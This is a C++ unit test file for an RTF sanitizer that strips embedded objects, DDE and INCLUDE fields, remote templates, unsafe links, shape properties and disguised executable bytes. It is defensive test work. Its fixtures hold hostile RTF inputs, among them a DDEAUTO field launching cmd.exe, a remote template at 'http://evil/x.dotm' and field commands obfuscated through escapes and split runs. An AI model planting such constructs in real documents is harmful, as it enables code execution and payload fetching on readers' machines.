#include "formats/rtf/rtf.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "formats/rebuild_twice.h"
#include "formats/rtf/look.h"
#include "text/encoding.h"

namespace sekisho::formats::rtf {
namespace {

using base::What;

std::string run(std::string_view body, Outcome* outcome = nullptr) {
  Outcome out = disarm(kFormat, base::FileType::rtf, base::view(body));
  if (outcome != nullptr) *outcome = out;
  if (out.ok) {
    worker::second_look::Look look(10);
    rtf::look(out.bytes, base::FileType::rtf, look);
    for (const auto& finding : look.findings()) ADD_FAILURE() << finding.what << ' ' << finding.where << " in " << base::text(out.bytes);
  }
  return out.ok ? std::string(base::text(out.bytes)) : "refused";
}
std::uint32_t removed(std::string_view body, What what) {
  Outcome out;
  run(body, &out);
  return out.count(what);
}
std::size_t findings(std::string_view rtf) {
  worker::second_look::Look look(10);
  rtf::look(base::view(rtf), base::FileType::rtf, look);
  return look.findings().size();
}

TEST(Rtf, PlainTextAndFormattingStay) {
  Outcome out;
  EXPECT_EQ(run("{\\rtf1\\ansi{\\fonttbl\\f0\\fswiss Helvetica;}\\f0\\pard This is some {\\b bold} text.\\par}", &out),
            "{\\rtf1\\ansi{\n\\fonttbl\\f0\\fswiss Helvetica;}\\f0\n\\pard This is some {\\b bold} text.\n\\par}\n");
  EXPECT_TRUE(out.notes.removed().empty());
}

TEST(Rtf, DisguisedHeadersComeOutPlain) {
  EXPECT_EQ(run("{\\rt\\b x}"), "{\\rtf1\\b x}\n");
  EXPECT_EQ(run("{\\rtfabc99 x}"), "{\\rtf1 x}\n");
  EXPECT_EQ(run("{\\rtf1{\\b x}"), "{\\rtf1{\\b x}}\n");  // cut off
  EXPECT_EQ(removed("{\\rtf1 x}MZ evil", What::trailing_bytes), 1u);
  EXPECT_EQ(run("{\\rtf1 x}\r\n\0"), "{\\rtf1 x}\n");
}

TEST(Rtf, UnicodeLosesItsFallback) {
  EXPECT_EQ(run("{\\rtf1\\uc2\\u26085\\'93\\'fa x}"), "{\\rtf1\\u26085? x}\n");
  EXPECT_EQ(run("{\\rtf1\\uc0\\u26085 x}"), "{\\rtf1\\u26085?x}\n");
  EXPECT_EQ(run("{\\rtf1 {\\uc2\\u26085??}\\u26085??}"), "{\\rtf1{\\u26085?}\\u26085??}\n");
  EXPECT_EQ(run("{\\rtf1\\u128512?}"), "{\\rtf1\\u-10179?\\u-8704?}\n");
  EXPECT_EQ(run("{\\rtf1\\u8217\\rquote s}"), "{\\rtf1\\u8217?s}\n");
}

TEST(Rtf, TrailBytesOfCodePage932AreNoControls) {
  // 表 is 95 5C, ポ is 83 7C, ソ is 83 5C, ｛ as 81 6F; raw bytes in a Japanese document
  EXPECT_EQ(run("{\\rtf1\\ansi\\ansicpg932 \x95\x5cobjdata x\x83\x7b}"), "{\\rtf1\\ansi\\ansicpg932\\'95\\'5cobjdata x\\'83\\'7b}\n");
  EXPECT_EQ(run("{\\rtf1{\\fonttbl{\\f0\\fcharset128 \x82l;}}\\f0 \x83\x5c}"), "{\\rtf1{\n\\fonttbl{\\f0\\fcharset128\\'82l;}}\\f0\\'83\\'5c}\n");
  EXPECT_EQ(run("{\\rtf1\\ansi \x95\\b x}"), "{\\rtf1\\ansi\\'95\\b x}\n");  // elsewhere it is a control word
}

TEST(Rtf, ObjectsGoTheirPictureOrTextStays) {
  EXPECT_EQ(run("{\\rtf1 a{\\object\\objemb\\objw1{\\*\\objclass Package}{\\*\\objdata 0105}{\\result {\\b seen}}}b}"), "{\\rtf1 a{{\\b seen}}b}\n");
  EXPECT_EQ(removed("{\\rtf1{\\object{\\objdata 01{\\*\\objocx 02}}}}", What::embedded_object), 1u);
  EXPECT_EQ(run("{\\rtf1 a{\\b\\object\\objdata 0105 x}b}"), "{\\rtf1 a{\\b}b}\n");
  EXPECT_EQ(run("{\\rtf1 a{\\*\\objdata 01{\\object 0}}b}"), "{\\rtf1 ab}\n");
  EXPECT_EQ(run("{\\rtf1 a{\\*{\\object\\objdata 01}}b}"), "{\\rtf1 ab}\n");
  EXPECT_EQ(run("{\\rtf1 a\\objupdate b}"), "{\\rtf1 ab}\n");
}

TEST(Rtf, TemplatesStoresAndMetadataGo) {
  EXPECT_EQ(run("{\\rtf1{\\*\\template http://evil/x.dotm}x}"), "{\\rtf1 x}\n");
  EXPECT_EQ(run("{\\rtf1{\\*\\datastore 01}{\\*\\themedata 50}{\\*\\generator Word}{\\*\\unknown y}x}"), "{\\rtf1 x}\n");
  EXPECT_EQ(run("{\\rtf1{\\info{\\title Plan}{\\author Taro}{\\creatim\\yr2026}}x}"), "{\\rtf1{\\info{\\title Plan}}x}\n");
  EXPECT_EQ(run("{\\rtf1\\insrsid123 {\\*\\rsidtbl\\rsid1}x}"), "{\\rtf1 x}\n");
  EXPECT_EQ(run("{\\rtf1{\\fonttbl{\\f0 A{\\*\\fontemb\\fttruetype 00}{\\*\\falt B};}}x}"), "{\\rtf1{\n\\fonttbl{\\f0 A{\\*\\falt B};}}x}\n");
}

TEST(Rtf, FieldsThatFetchKeepTheirResult) {
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe \"/c calc\"}{\\fldrslt old}}}"), "{\\rtf1{old}}\n");
  EXPECT_EQ(removed("{\\rtf1{\\field{\\*\\fldinst DDEAUTO x}{\\fldrslt old}}}", What::dde), 1u);
  // the command split over runs, in escapes, in Unicode
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst{\\b INCL}{\\i UDEPIC\\'54URE}{ \"http://x/y.png\"}}{\\fldrslt p}}}"), "{\\rtf1{p}}\n");
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst\\u73?NCLUDETEXT x}{\\fldrslt p}}}"), "{\\rtf1{p}}\n");
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}}"), "{\\rtf1{\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}}\n");
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst{\\field{\\*\\fldinst QUOTE}{\\fldrslt DDE}} x y}{\\fldrslt p}}}"), "{\\rtf1{p}}\n");
  EXPECT_EQ(run("{\\rtf1{{\\*\\fldinst DDE x}}}"), "{\\rtf1{}}\n");
}

TEST(Rtf, FieldsAreJudgedByWhatComesOut) {
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst \\'01SAVE\x02"
                "DATE}{\\fldrslt 5}}}"),
            "{\\rtf1{5}}\n");
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst HYPER\x7FLINK \"fi\\'02le://x\"}{\\fldrslt 5}}}"), "{\\rtf1{5}}\n");
}

TEST(Rtf, FieldsThatShowMetadataKeepTheirResult) {
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst  saveDate \\\\@ \"d\"}{\\fldrslt 5}}}"), "{\\rtf1{5}}\n");
  EXPECT_EQ(removed("{\\rtf1{\\field{\\*\\fldinst AUTHOR}{\\fldrslt Taro}}}", What::metadata), 1u);
}

TEST(Rtf, LinksStayBySchemeOnly) {
  const std::string_view link = "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://www.city.example.jp/\"}{\\fldrslt\\ul seen}}}";
  EXPECT_NE(run(link).find("HYPERLINK \"https://www.city.example.jp/\""), std::string::npos);
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"file://server/x\"}{\\fldrslt seen}}}"), "{\\rtf1{seen}}\n");
  EXPECT_EQ(removed("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"javascript:x\"}{\\fldrslt seen}}}", What::unsafe_link), 1u);
  EXPECT_NE(run("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \\\\l \"place\"}{\\fldrslt seen}}}").find("\\\\l"), std::string::npos);
  // a link's data hidden beside it
  EXPECT_EQ(run("{\\rtf1{\\field{\\*\\fldinst PAGE{\\*\\datafield 00d0}}{\\fldrslt 1}}}"), "{\\rtf1{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}}\n");
}

TEST(Rtf, PicturesAreRebuiltOrBlank) {
  const std::string_view png =
      "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
      "1f15c4890000000b4944415478da63600002000005000101e9fad8d80000000049454e44ae426082";
  const std::string blank = run("{\\rtf1{\\pict\\pngblip\\picw1\\pich1 4d5a9000}}");
  EXPECT_NE(blank.find("{\\pict\\pngblip\\picw1\\pich1\n89504e47"), std::string::npos);
  EXPECT_EQ(removed("{\\rtf1{\\pict\\wmetafile8 zz4d5a}}", What::picture_refused), 1u);
  EXPECT_NE(run("{\\rtf1{\\*\\shppict{\\pict\\emfblip " + std::string(png) + "}}}").find("pngblip"), std::string::npos);
  const std::string inside = run("{\\rtf1{\\pict\\pngblip{\\upr{a}{\\*\\ud 9e00}}{\\b 4d5a}{\\*\\blipuid 00}" + std::string(png) + "}}");
  EXPECT_NE(inside.find("{\\pict\\pngblip\n89504e47"), std::string::npos) << inside;
  EXPECT_EQ(run("{\\rtf1\\bin5 x}"), "refused");
}

TEST(Rtf, BitmapsWithoutHeaderStayBitmaps) {
  std::string dib =
      "28000000"
      "01000000"
      "01000000"
      "0100"
      "1800"
      "00000000"
      "04000000"
      "00000000"
      "00000000"
      "00000000"
      "00000000"
      "0102ff00";
  const std::string out = run("{\\rtf1{\\pict\\dibitmap0\\wbmbitspixel24 " + dib + "}}");
  EXPECT_NE(out.find("\\dibitmap0\n28000000"), std::string::npos) << out;
}

TEST(Rtf, ShapePropertiesByKind) {
  EXPECT_EQ(run("{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn lineColor}{\\sv 255}}{\\sp{\\sn pFragments}{\\sv 1;2;0102030405}}}}}"),
            "{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn lineColor}{\\sv 255}}}}}\n");
  EXPECT_EQ(removed("{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://x}}}}}", What::external_link), 1u);
  EXPECT_EQ(removed("{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pVerticies}{\\sv 8;3;(1,2);(3,4)}}}}}", What::unknown_markup), 1u);
  EXPECT_EQ(removed("{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pVerticies}{\\sv 8;2;(1,2);(3,4)}}}}}", What::unknown_markup), 0u);
  EXPECT_EQ(removed("{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn lineColor}{\\sv 0x5c2f}}}}}", What::unknown_markup), 1u);
}

TEST(Rtf, ListsKeepThePlacesOfTheirNumbers) {
  const std::string_view list = "{\\rtf1{\\listlevel{\\leveltext\\'02\\'00.;}{\\levelnumbers\\'01;}}\\'01 x}";
  EXPECT_EQ(run(list), "{\\rtf1{\\listlevel{\\leveltext\\'02\\'00.;}{\\levelnumbers\\'01;}} x}\n");
  EXPECT_EQ(removed(list, What::control_character), 1u);
  EXPECT_NE(run("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"#place\"}{\\fldrslt x}}}").find("#place"), std::string::npos);
}

TEST(Rtf, DepthIsBounded) {
  EXPECT_EQ(run("{\\rtf1" + std::string(1'000, '{') + "}"), "refused");
  EXPECT_EQ(run("{\\rtf1 not a header"), "{\\rtf1 not a header}\n");
}

TEST(Rtf, TellsOfHiddenText) {
  const auto told = [](std::string_view body) {
    Outcome out;
    run(body, &out);
    return std::ranges::any_of(out.notes.warnings(), [](const base::Note& note) { return note.what == What::hidden_text; });
  };
  EXPECT_TRUE(told("{\\rtf1 a{\\v hidden}}"));
  EXPECT_TRUE(told("{\\rtf1 a{\\v1 hidden}}"));
  EXPECT_FALSE(told("{\\rtf1 a{\\v0 shown}}"));
}

TEST(RtfLook, FindsWhatMustNotComeOut) {
  EXPECT_EQ(findings("{\\rtf1 x}\n"), 0u);
  EXPECT_GT(findings("{\\rtf1 x}\nMZ"), 0u);
  EXPECT_GT(findings("{\\rtf1{\\object{\\*\\objdata 01}}}\n"), 0u);
  EXPECT_GT(findings("{\\rtf1{\\*\\template x}}\n"), 0u);
  EXPECT_GT(findings("{\\rtf1{\\field{\\*\\fldinst{ DD}{E x}}}}\n"), 0u);
  EXPECT_GT(findings("{\\rtf1{\\field{\\*\\fldinst \\u68?DE x}}}\n"), 0u);
  EXPECT_GT(findings("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"file:///c:/x\"}}}\n"), 0u);
  EXPECT_GT(findings("{\\rtf1{\\pict\\pngblip 4d5a}}\n"), 0u);
  EXPECT_GT(findings("{\\rtf1{\\sp{\\sn pFragments}{\\sv 1}}}\n"), 0u);
  EXPECT_GT(findings("{\\rtf1\\bin1 x}\n"), 0u);
  EXPECT_GT(findings("{\\rtf1 \x95}\n"), 0u);
}

}  // namespace
}  // namespace sekisho::formats::rtf
